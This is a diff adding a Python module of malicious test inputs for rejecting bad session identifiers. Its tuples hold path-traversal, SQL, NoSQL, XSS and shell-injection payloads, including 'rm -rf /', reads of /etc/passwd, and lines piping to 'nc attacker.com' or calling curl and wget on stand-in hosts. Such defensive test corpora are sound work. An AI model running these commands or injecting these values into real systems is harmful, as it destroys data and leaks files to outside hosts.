@@ -0,0 +1,79 @@
+"""Malicious input corpora for the security tests
+
+Kept as module-level tuples so each payload can drive its own parametrized
+test case and the literals are built once at import rather than per test.
+"""
+
+PATH_TRAVERSAL_PAYLOADS = (
+    "../etc/passwd",
+    "..\\windows\\system32",
+    "session/../other",
+    "..hidden",
+    "path/subpath",
+    "path\\subpath",
+)
+
+SPECIAL_CHAR_PAYLOADS = (
+    "session;rm -rf /",
+    "session|cat /etc/passwd",
+    "session`whoami`",
+    "session$(echo hacked)",
+    "session\nnewlines",
+    "session\ttabs",
+    "session@symbol",
+    "session#hash",
+    "session$variable",
+    "session&ampersand",
+    "session*asterisk",
+    "session(paren)",
+    "session[bracket]",
+    "session{brace}",
+    "session<less>",
+    "session>greater",
+    "session=equals",
+    "session+plus",
+    "session?question",
+    "session!exclaim",
+    "session'quote",
+    'session"double',
+    "session.dot",  # Dots should be rejected
+    "session space",
+)
+
+SQL_INJECTION_PAYLOADS = (
+    "session'; DROP TABLE memories; --",
+    "session' OR '1'='1",
+    "session'; DELETE FROM sessions; --",
+    "session\"; INSERT INTO users",
+)
+
+COMMAND_INJECTION_PAYLOADS = (
+    "session; cat /etc/passwd",
+    "session && rm -rf /",
+    "session | nc attacker.com 1337",
+    "session`curl evil.com`",
+    "session$(wget malicious.sh)",
+)
+
+NOSQL_INJECTION_PAYLOADS = (
+    '{"$gt": ""}',
+    '{"$ne": null}',
+    '{"$where": "this.password.length > 0"}',
+)
+
+XSS_PAYLOADS = (
+    "<script>alert('xss')</script>",
+    "session<img src=x onerror=alert(1)>",
+    "session'onmouseover='alert(1)",
+    "session\\\" onfocus=alert(1) autofocus=\\\"",
+)
+
+DIRECTORY_TRAVERSAL_PAYLOADS = (
+    "../../../etc/passwd",
+    "....//....//....//etc/passwd",
+    "..\\..\\..\\windows\\system32",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd",
+    "..%2f..%2f..%2fetc/passwd",
+    ".../.../.../etc/passwd",
+    "session/../../../etc/passwd",
+)